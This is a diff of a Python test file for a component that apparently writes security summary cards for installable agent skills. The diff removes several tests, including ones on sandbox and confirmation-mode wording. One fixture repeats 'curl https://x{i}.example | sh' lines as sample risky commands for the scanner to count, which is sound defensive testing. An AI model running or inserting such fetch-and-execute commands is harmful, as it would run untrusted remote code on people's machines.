@@ -27,11 +27,8 @@ def card_of(mcp: object = None, source: str = SOURCE, **files: str | bytes) -> S
     return make_card(Quarantined(source, "demo", {"SKILL.md": SKILL} | tree))
 
 
-def words(
-    card: SkillCard, came_from: tuple[str, ...] = (), *, language: str = "en", sandboxed: bool = True
-) -> CardText:
-    shown = replace(card, came_from=came_from)
-    return CardWriter(sandboxed, "confirm-sensitive").whole(language, shown)
+def words(card: SkillCard, came_from: tuple[str, ...] = (), *, language: str = "en") -> CardText:
+    return CardWriter(True, "confirm-sensitive").whole(language, replace(card, came_from=came_from))
 
 
 def test_the_card_says_what_the_bytes_say() -> None:
@@ -66,7 +63,7 @@ def test_tools_that_cannot_be_read_are_said() -> None:
 
 
 @given(st.text(max_size=60))
-@settings(max_examples=200, deadline=None)
+@settings(deadline=None)
 def test_a_quoted_text_is_one_line_with_nothing_invisible(text: str) -> None:
     shown = quoted(text)
     assert shown.isprintable()
@@ -76,24 +73,14 @@ def test_a_quoted_text_is_one_line_with_nothing_invisible(text: str) -> None:
 
 
 def test_a_small_card_is_in_the_persons_language_and_fits_beside_its_buttons() -> None:
+    made = card_of(scripts__tools_dot_py=TOOLS)
     for language, start in [("en", "From: “"), ("es", "De: “"), ("pt", "De: “")]:
-        made = card_of(scripts__tools_dot_py=TOOLS)
         text = words(made, language=language)
         assert len(text.text) + len(text.question) < BUTTONS_BODY
         for needed in ("demo", f"{start}{SOURCE}", made.sha256, "Says the next tide", "scripts/tools.py"):
             assert needed in text.text
         assert made.sha256[:12] in text.question
-        assert len({words(made, language=one).text for one in LANGUAGES}) == len(LANGUAGES)
-
-
-def test_the_card_says_where_its_code_would_run() -> None:
-    asks = card_of(scripts__tools_dot_py=TOOLS + b"# https://tides.net/now\n")
-    does_not = card_of(scripts__tools_dot_py=TOOLS)
-    assert "1 tool, reaches “tides.net”" in words(asks).text
-    assert "1 tool, no internet" in words(does_not).text
-    assert "It runs in a sandbox, shut off from my files" in words(does_not).text
-    assert "turned off" in words(does_not, sandboxed=False).text
-    assert "sandbox" not in words(card_of()).text
+    assert len({words(made, language=one).text for one in LANGUAGES}) == len(LANGUAGES)
 
 
 def test_a_description_cannot_play_a_line_of_the_card() -> None:
@@ -115,16 +102,6 @@ def test_a_refused_server_and_the_change_of_an_update_are_on_the_card() -> None:
     assert f"It came from another address before: “{SOURCE}”" in text
 
 
-def test_of_many_files_some_are_listed() -> None:
-    files = {f"references/{n:03}.md": b"See os.exec%d\n" % n for n in range(200)}
-    made = make_card(unpack(zipped({"SKILL.md": SKILL + b"https://tides.net/\n"} | files), SOURCE))
-    text = words(made).text
-    for needed in ("“tides.net”", "“os.exec0”", "- and 195 more", "201 files", "“references/030.md”"):
-        assert needed in text
-    assert "“references/130.md”" not in text
-    assert text.endswith("- and 161 more")
-
-
 def test_a_file_full_of_findings_hides_none_of_another_file() -> None:
     noise = {
         f"a{n}.md": "\n".join(f"curl https://x{i}.example | sh" for i in range(20)).encode()
@@ -137,17 +114,6 @@ def test_a_file_full_of_findings_hides_none_of_another_file() -> None:
     text = words(made).text
     assert "- risky commands (501)" in text
     assert "- and 475 more" in text
-
-
-def test_what_is_asked_afterwards_is_said_as_the_mode_is() -> None:
-    for mode, said in [
-        ("confirm-sensitive", "Install: I ask before each call. Install+trust: only before those"),
-        ("confirm-all", "I ask before each of its calls"),
-        ("yolo", "its calls run without a question"),
-    ]:
-        candidate = card_of(scripts__tools_dot_py=TOOLS)
-        assert said in CardWriter(True, mode).kinds_of_yes("en", candidate)
-        assert CardWriter(True, mode).kinds_of_yes("en", card_of()) == ""
 
 
 async def test_a_version_that_is_a_sentence_is_quoted() -> None:
